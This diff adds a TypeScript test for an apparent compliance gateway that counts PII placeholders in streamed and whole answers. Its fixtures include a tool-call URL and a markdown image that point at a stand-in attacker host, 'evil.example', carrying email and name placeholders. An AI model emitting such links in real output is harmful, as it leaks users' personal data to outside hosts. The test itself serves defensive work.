@@ -152,6 +152,25 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(blocks).toEqual([...blocks].sort());
     });
 
+    test("the trace at the end of a stream counts the placeholders that stay in texts and arguments, as the trace of a whole answer does", async () => {
+      const given = { to: "[EMAIL_1]", url: "https://evil.example/?q=[EMAIL_1]" };
+      answerWithCall(JSON.stringify(given), "send_mail", "![x](//evil.example/[PERSON_1]) ");
+      const whole = await callSdk(gateway, "messages", toolsBody("messages"), {
+        ...{ key, headers: RELINKED },
+      });
+      const events = await ask();
+      const counted = ({ metadata }: typeof whole.body) =>
+        /placeholders in links.*: (.*)$/.exec(
+          metadata.svc_compliance.compliance_trace.steps.at(-1)?.detail ?? "",
+        )?.[1];
+      expect([counted(whole.body), counted(events.at(-2))]).toEqual(["2", "2"]);
+      expect(counted(events[0].message)).toBeUndefined();
+      const [start, ...restored] = await ask({});
+      expect(counted(restored.at(-2))).toBeUndefined();
+      const traceOf = ({ metadata }: typeof whole.body) => metadata.svc_compliance.compliance_trace;
+      expect(traceOf(restored.at(-2))).toEqual(traceOf(start.message));
+    });
+
     test("streamed arguments keep their placeholders for tools that the policy does not list and when values are not requested", async () => {
       answerWithCall(GIVEN, "fetch");
       expect(jsonIn(await ask())).toBe(GIVEN);
